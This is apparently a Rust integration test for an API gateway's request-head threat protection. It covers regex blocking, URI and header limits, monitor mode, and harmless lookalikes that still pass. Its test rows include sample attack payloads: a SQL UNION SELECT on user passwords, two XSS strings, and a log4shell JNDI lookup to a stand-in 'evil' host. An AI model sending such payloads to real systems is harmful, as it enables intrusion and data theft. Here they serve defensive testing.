//! Threat protection of the request head through the real gateway: the regex protector on
//! the path, the query and the headers (encoded payloads included), the URI and header
//! limits, monitor mode, and the same answers on both exchanges. The upstream never sees a
//! refused request.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
use common::*;
use std::sync::atomic::Ordering;

fn config(up: &str, fast: bool) -> String {
    format!(
        r#"server: {{ threads: 1, upstream_fast_path: {fast} }}
access_log: {{ enabled: false }}
listeners: [{{ address: "127.0.0.1:{{port}}" }}]
admin: {{ address: "127.0.0.1:{{admin}}" }}
threat_protection:
  mode: enforce
  limits: {{ max_uri_length: 512B, max_header_size: 4KiB, max_headers: 20 }}
  regex: {{ patterns: default, scan: [path, query, headers] }}
apis:
  - {{ name: svc, context: /svc, version: v1, endpoint: {{ targets: [{{ url: "{up}" }}] }}, resources: [{{ path: "/*", methods: [ANY] }}] }}
  - name: mon
    context: /mon
    version: v1
    endpoint: {{ targets: [{{ url: "{up}" }}] }}
    threat_protection: {{ mode: monitor, regex: {{ add: [{{ name: no-tabs, pattern: "\\t" }}] }} }}
    resources: [{{ path: "/*", methods: [ANY] }}]
"#
    )
}

fn send(gw: &TestGateway, target: &str, fields: &str) -> (u16, serde_json::Value) {
    let mut s = connect(gw);
    std::io::Write::write_all(&mut s, format!("GET {target} HTTP/1.1\r\nHost: x\r\n{fields}\r\n").as_bytes()).unwrap();
    let (head, body) = read_response(&mut s, &mut Vec::new());
    (head[9..12].parse().unwrap(), serde_json::from_slice(&body).unwrap_or(serde_json::Value::Null))
}

#[tokio::test(flavor = "multi_thread")]
async fn the_regex_protector_and_the_limits_refuse_before_the_upstream_on_both_exchanges() {
    let up = TestUpstream::start("a").await;
    let many: String = (0..25).map(|i| format!("x-h{i}: v\r\n")).collect();
    let long = format!("/svc/v1/{}", "a".repeat(600));
    let rows: Vec<(&str, String, String, u16, &str, &str)> = vec![
        ("a query", "/svc/v1/items?q=1+UNION+SELECT+password+FROM+users".into(), String::new(), 400, "regex", "sql.union_select"),
        ("an encoded path", "/svc/v1/%3Cscript%3Ealert(1)".into(), String::new(), 400, "regex", "xss.script_tag"),
        ("a header", "/svc/v1/items".into(), "x-note: <img src=x onerror=alert(1)>\r\n".into(), 400, "regex", "xss.event_handler"),
        ("a log4shell header", "/svc/v1/items".into(), "user-agent: ${jndi:ldap://evil/a}\r\n".into(), 400, "regex", "code.jndi_lookup"),
        ("a long target", long.clone(), String::new(), 414, "limits", "max_uri_length"),
        ("many headers", "/svc/v1/items".into(), many.clone(), 431, "limits", "max_headers"),
        ("large headers", "/svc/v1/items".into(), format!("x-big: {}\r\n", "b".repeat(5000)), 431, "limits", "max_header_size"),
    ];
    let mut answers = Vec::new();
    for fast in [true, false] {
        let gw = TestGateway::start(&config(&up.url(), fast));
        let before = up.hits.load(Ordering::SeqCst);
        let mut these = Vec::new();
        for (what, target, fields, status, protector, rule) in &rows {
            let (got, problem) = send(&gw, target, fields);
            assert_eq!(got, *status, "{what} (fast path {fast}): {problem}");
            assert_eq!(problem["protector"], *protector, "{what}");
            assert_eq!(problem["rule"], *rule, "{what}");
            assert!(!problem.to_string().contains("script>"), "the payload is never echoed: {problem}");
            these.push(problem["detail"].clone());
        }
        assert_eq!(up.hits.load(Ordering::SeqCst), before, "no refused request reached the upstream");
        // Benign lookalikes pass.
        for target in ["/svc/v1/customers?name=O%27Brien", "/svc/v1/search?q=select+a+size+and+drop+it", "/svc/v1/a/b.json?x=1&y=2"] {
            assert_eq!(send(&gw, target, "x-note: Tom & Jerry\r\n").0, 200, "{target}");
        }
        assert_eq!(
            metric(&gw, "gateway_threat_detections_total{action=\"blocked\",api=\"svc\",protector=\"regex\",rule=\"sql.union_select\"}")
                .await,
            1
        );
        answers.push(these);
    }
    assert_eq!(answers[0], answers[1], "the lane and Pingora's path answer alike");
}

#[tokio::test(flavor = "multi_thread")]
async fn monitor_mode_lets_requests_through_and_counts_them() {
    let up = TestUpstream::start("a").await;
    let gw = TestGateway::start(&config(&up.url(), true));
    assert_eq!(send(&gw, "/mon/v1/items?q=1+UNION+SELECT+x", "").0, 200);
    assert_eq!(send(&gw, "/mon/v1/items", "x-note: a\tb\r\n").0, 200);
    assert_eq!(up.hits.load(Ordering::SeqCst), 2);
    assert_eq!(
        metric(&gw, "gateway_threat_detections_total{action=\"logged\",api=\"mon\",protector=\"regex\",rule=\"sql.union_select\"}").await,
        1
    );
    assert_eq!(metric(&gw, "gateway_threat_detections_total{action=\"logged\",api=\"mon\",protector=\"regex\",rule=\"no-tabs\"}").await, 1);
    assert!(gw.log().contains("threat detected"), "{}", gw.log());
}
